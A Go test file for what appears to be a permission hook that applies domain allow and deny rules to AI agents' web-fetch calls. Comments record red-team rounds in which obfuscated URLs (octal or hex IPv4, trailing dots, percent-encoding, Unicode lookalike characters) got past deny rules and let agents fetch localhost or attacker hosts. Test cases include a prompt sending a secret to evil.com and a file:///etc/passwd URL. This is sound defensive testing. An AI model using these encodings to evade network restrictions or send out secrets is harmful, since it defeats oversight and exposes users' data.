package match

import (
	"encoding/json"
	"testing"
)

// TestRuleDomainAgentsURL checks that a domain rule reads a URL's host as the agents'
// WHATWG parsers do (red team round 39: each of these passed a deny rule, and Claude Code
// 2.1.332 fetched 127.0.0.1). Each case is tried for the deny reading (Match) and the
// allow reading (Allows): the agents' one reading makes both right.
func TestRuleDomainAgentsURL(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, rule, url string
		want            bool
	}{
		{"trailing dot ipv4", "WebFetch(domain:127.0.0.1)", "http://127.0.0.1.:47210/x", true},
		{"no slashes", "WebFetch(domain:127.0.0.1)", "http:127.0.0.1:47210/x", true},
		{"backslashes", "WebFetch(domain:127.0.0.1)", `http:\\127.0.0.1:47210/x`, true},
		{"backslash ends authority", "WebFetch(domain:127.0.0.1)", `http://127.0.0.1:47210\@example.org/x`, true},
		{"backslash ends authority, not example.org", "WebFetch(domain:example.org)", `http://127.0.0.1:47210\@example.org/x`, false},
		{"hex and short ipv4", "WebFetch(domain:127.0.0.1)", "http://0x7f.1:47210/x", true},
		{"octal ipv4", "WebFetch(domain:127.0.0.1)", "http://0177.0.0.1/x", true},
		{"short ipv4", "WebFetch(domain:127.0.0.1)", "http://127.1/x", true},
		{"decimal ipv4", "WebFetch(domain:127.0.0.1)", "http://2130706433/x", true},
		{"ipv4-mapped ipv6", "WebFetch(domain:127.0.0.1)", "http://[::ffff:127.0.0.1]/x", true},
		{"ipv6", "WebFetch(domain:::1)", "http://[::1]:80/x", true},
		{"ipv6 bracketed rule", "WebFetch(domain:[::1])", "http://[0:0::1]/x", true},
		{"trailing dot", "WebFetch(domain:evil.com)", "https://evil.com./x", true},
		{"percent-encoded dot", "WebFetch(domain:evil.com)", "https://evil%2ecom/x", true},
		{"percent-encoded trailing dot", "WebFetch(domain:evil.com)", "https://evil.com%2e/x", true},
		{"fullwidth letter", "WebFetch(domain:evil.com)", "https://ｅvil.com/x", true},
		{"ideographic full stop", "WebFetch(domain:evil.com)", "https://evil\u3002com/x", true},
		{"upper case", "WebFetch(domain:evil.com)", "https://EVIL.COM/x", true},
		{"subdomain upper case", "WebFetch(domain:evil.com)", "https://A.Evil.Com/x", true},
		{"no scheme", "WebFetch(domain:evil.com)", "evil.com/x", true},
		{"no scheme with port", "WebFetch(domain:evil.com)", "evil.com:443/x", true},
		{"no scheme ipv4", "WebFetch(domain:127.0.0.1)", "127.0.0.1:47210/x", true},
		{"rule upper case and trailing dot", "WebFetch(domain:EXAMPLE.com.)", "https://example.com/x", true},
		{"rule percent-encoded", "WebFetch(domain:evil%2Ecom)", "https://evil.com/x", true},
		{"rule ipv4 number", "WebFetch(domain:2130706433)", "http://127.0.0.1/x", true},
		{"rule idn", "WebFetch(domain:bücher.de)", "https://xn--bcher-kva.de/x", true},
		{"url idn", "WebFetch(domain:xn--bcher-kva.de)", "https://BÜCHER.de/x", true},
		{"rule star", "WebFetch(domain:*.EXAMPLE.com.)", "https://a.example.com/x", true},
		{"rule star not other", "WebFetch(domain:*.example.com)", "https://a.example.org/x", false},
		{"other domain", "WebFetch(domain:evil.com)", "https://notevil.com/x", false},
		{"userinfo is not the host", "WebFetch(domain:evil.com)", "https://evil.com@good.org/x", false},
		{"userinfo host", "WebFetch(domain:good.org)", "https://evil.com@good.org/x", true},
		{"two trailing dots", "WebFetch(domain:evil.com)", "https://evil.com../x", false},
		{"unparseable", "WebFetch(domain:evil.com)", "::", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			args := `{"url":` + jsonString(tt.url) + `,"prompt":"summarise"}`
			checkMatchAllows(t, tt.rule, NewSubject("PreToolUse", "WebFetch", json.RawMessage(args)), args, tt.want, tt.want)
		})
	}
}

// TestURLHostRedTeam40 checks urlHost on the forms of red team round 40, with the host
// Node 20's URL reads (new URL(s).hostname): UTS 46 without STD3 rules maps U+037E to ';',
// '⁺' to '+', '⁽' to '(', '⑴' to "(1)", '‼' to "!!" and U+1FEF to '`', none of them a
// forbidden domain code point. Claude Code 2.1.332 fetched a;b.evil.com (a DNS query to
// evil.com's name server) while hookcore read the host "https".
func TestURLHostRedTeam40(t *testing.T) {
	t.Parallel()
	tests := []struct {
		url, host string
		result    hostResult
	}{
		{"https://a\u037Eb.evil.com/x", "a;b.evil.com", hostFound},
		{"https://a\u207Ab.evil.com/x", "a+b.evil.com", hostFound},
		{"https://a\u207Db.evil.com/x", "a(b.evil.com", hostFound},
		{"https://a\u2474b.evil.com/x", "a(1)b.evil.com", hostFound},
		{"https://a\u203Cb.evil.com/x", "a!!b.evil.com", hostFound},
		{"https://a\u1FEFb.evil.com/x", "a`b.evil.com", hostFound},
		{"https://a%e2%81%bab.evil.com/x", "a+b.evil.com", hostFound},
		{"https://a%3Bb.evil.com/x", "a;b.evil.com", hostFound},
		{"https:a\u037Eb.evil.com/x", "a;b.evil.com", hostFound},
		{"a\u037Eb.evil.com/x", "a;b.evil.com", hostFound},
		{"https://\u00fc;x.com/", "xn--;x-wka.com", hostFound},
		{"ws://a\u037Eb.evil.com/", "a;b.evil.com", hostFound},
		{"https://0x7f.1/", "127.0.0.1", hostFound},
		{"https://xn--a-.evil.com/", "", hostUnread}, // Node 20: xn--a-.evil.com
		{"https://\u0663.com/", "", hostUnread},      // Node 20: xn--cib.com
		{"https://a;b.0x7f/", "", hostUnread},        // Node: an invalid IPv4 address
		{"https://a%2541.com/", "", hostUnread},      // '%' after decoding
		{"https://[::1/", "", hostUnread},
		{"http:[::1", "", hostUnread},
		{"https://", "", hostUnread},
		{"file:///etc/passwd", "", hostNone},
		{"::", "", hostNone},
	}
	for _, tt := range tests {
		t.Run(tt.url, func(t *testing.T) {
			t.Parallel()
			h, r := urlHost(tt.url)
			if h != tt.host || r != tt.result {
				t.Errorf("urlHost(%q) = %q, %d, want %q, %d", tt.url, h, r, tt.host, tt.result)
			}
		})
	}
}

// TestRuleDomainUnread checks domain rules on URLs that hookcore reads only since red team
// round 40, and on URLs with a scheme it cannot read: a deny rule matches those whatever its
// domain, an allow rule permits none of them (fail closed both ways).
func TestRuleDomainUnread(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, rule, url string
		match, allows   bool
	}{
		{"greek question mark", "WebFetch(domain:evil.com)", "https://a\u037Eb.evil.com/x", true, true},
		{"superscript plus", "WebFetch(domain:evil.com)", "https://a\u207Ab.evil.com/x", true, true},
		{"superscript parenthesis", "WebFetch(domain:evil.com)", "https://a\u207Db.evil.com/x", true, true},
		{"parenthesized digit", "WebFetch(domain:evil.com)", "https://a\u2474b.evil.com/x", true, true},
		{"double exclamation", "WebFetch(domain:evil.com)", "https://a\u203Cb.evil.com/x", true, true},
		{"greek varia", "WebFetch(domain:evil.com)", "https://a\u1FEFb.evil.com/x", true, true},
		{"greek question mark, no slashes", "WebFetch(domain:evil.com)", "https:a\u037Eb.evil.com/x", true, true},
		{"greek question mark, no scheme", "WebFetch(domain:evil.com)", "a\u037Eb.evil.com/x", true, true},
		{"greek question mark, other domain", "WebFetch(domain:good.org)", "https://a\u037Eb.evil.com/x", false, false},
		{"not the scheme as host", "WebFetch(domain:https)", "https://a\u037Eb.evil.com/x", false, false},
		{"rule with semicolon", "WebFetch(domain:a;b.evil.com)", "https://a\u037Eb.evil.com/x", true, true},
		{"rule with greek question mark", "WebFetch(domain:a\u037Eb.evil.com)", "https://a;b.evil.com/x", true, true},
		{"invalid punycode", "WebFetch(domain:evil.com)", "https://xn--a-.evil.com/", true, false},
		{"unread, other domain", "WebFetch(domain:good.org)", "https://xn--a-.evil.com/", true, false},
		{"unread, scheme as host", "WebFetch(domain:https)", "https://xn--a-.evil.com/", true, false},
		{"unclosed ipv6", "WebFetch(domain:evil.com)", "https://[::1/x", true, false},
		{"scheme without slashes", "WebFetch(domain:evil.com)", "http:[::1", true, false},
		{"empty host", "WebFetch(domain:evil.com)", "https://", true, false},
		{"file url", "WebFetch(domain:evil.com)", "file:///etc/passwd", false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			args := `{"url":` + jsonString(tt.url) + `,"prompt":"summarise"}`
			checkMatchAllows(t, tt.rule, NewSubject("PreToolUse", "WebFetch", json.RawMessage(args)), args, tt.match, tt.allows)
		})
	}
}

// TestRuleDomainGeminiPrompt checks Gemini CLI's web_fetch, whose URLs are in its prompt
// (red team F4): a deny rule matches when any URL in it matches, an allow rule permits the
// call only when it names every URL.
func TestRuleDomainGeminiPrompt(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, rule, args string
		match, allows    bool
	}{
		{"one url", "WebFetch(domain:evil.com)", `{"prompt":"Summarise https://evil.com/?k=SECRET please"}`, true, true},
		{"second url", "WebFetch(domain:evil.com)", `{"prompt":"Compare https://good.org/a and https://EVIL.com./b"}`, true, false},
		{"allowed both", "WebFetch(domain:corp.com)", `{"prompt":"Compare https://a.corp.com/a and https://corp.com/b"}`, true, true},
		{"no url", "WebFetch(domain:evil.com)", `{"prompt":"Summarise evil.com for me"}`, false, false},
		{"not http", "WebFetch(domain:evil.com)", `{"prompt":"see ftp://evil.com/x"}`, false, false},
		{"js space nbsp", "WebFetch(domain:evil.com)", "{\"prompt\":\"x\u00a0https://evil.com/\u3000y\"}", true, true},
		{"js space bom", "WebFetch(domain:evil.com)", "{\"prompt\":\"x\ufeffhttps://evil.com/\"}", true, true},
		{"whatwg host in prompt", "WebFetch(domain:127.0.0.1)", `{"prompt":"get http://0x7f.1:47210/x now"}`, true, true},
		{"url and prompt", "WebFetch(domain:evil.com)", `{"url":"https://good.org/","prompt":"and https://evil.com/"}`, true, false},
		{"url and prompt allowed", "WebFetch(domain:good.org)", `{"url":"https://good.org/","prompt":"and https://evil.com/"}`, true, false},
		{"greek question mark in prompt", "WebFetch(domain:evil.com)", "{\"prompt\":\"get https://a\u037Eb.evil.com/x\"}", true, true},
		{"unread url in prompt", "WebFetch(domain:evil.com)", `{"prompt":"get https://xn--a-.evil.com/x"}`, true, false},
		{"unread url in prompt, other domain", "WebFetch(domain:good.org)", `{"url":"https://good.org/","prompt":"get https://xn--a-.evil.com/x"}`, true, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			checkMatchAllows(t, tt.rule, NewSubject("PreToolUse", "WebFetch", json.RawMessage(tt.args)), tt.args, tt.match, tt.allows)
		})
	}
}

// TestCanonicalDomainPlain checks that canonicalDomain's shortcut for a plain ASCII domain
// (plainDomain) gives what the host parser gives.
func TestCanonicalDomainPlain(t *testing.T) {
	t.Parallel()
	tests := []struct {
		d     string
		plain bool
	}{
		{"example.com", true},
		{"EXAMPLE.Com.", true},
		{"*.example.com", true},
		{"ex*ample.com", true},
		{"a-b--c.example", true},
		{"-a-.b", true},
		{"localhost", true},
		{"*", true},
		{"a.*", true},
		{"x1.y2.z3", true},
		{"127.0.0.1", false},
		{"0x7f.1", false},
		{"2130706433", false},
		{"example.123", false},
		{"xn--bcher-kva.de", false},
		{"XN--bcher-kva.de", false},
		{"a..b", false},
		{".a", false},
		{"a.", true},
		{"bücher.de", false},
		{"evil%2ecom", false},
		{"a_b.com", false},
	}
	for _, tt := range tests {
		t.Run(tt.d, func(t *testing.T) {
			t.Parallel()
			if got := plainDomain(tt.d); got != tt.plain {
				t.Errorf("plainDomain(%q) = %v, want %v", tt.d, got, tt.plain)
			}
			if !tt.plain {
				return
			}
			if got, want := canonicalDomain(tt.d), parsedDomain(tt.d); got != want {
				t.Errorf("canonicalDomain(%q) = %q, the host parser gives %q", tt.d, got, want)
			}
		})
	}
}

// FuzzCanonicalDomainPlain checks plainDomain's shortcut against the host parser on any
// pattern it takes.
func FuzzCanonicalDomainPlain(f *testing.F) {
	for _, d := range []string{"example.com", "*.EXAMPLE.com.", "a-b.c", "x.0a", "a.b-"} {
		f.Add(d)
	}
	f.Fuzz(func(t *testing.T, d string) {
		if !plainDomain(d) {
			return
		}
		if got, want := canonicalDomain(d), parsedDomain(d); got != want {
			t.Errorf("canonicalDomain(%q) = %q, the host parser gives %q", d, got, want)
		}
	})
}
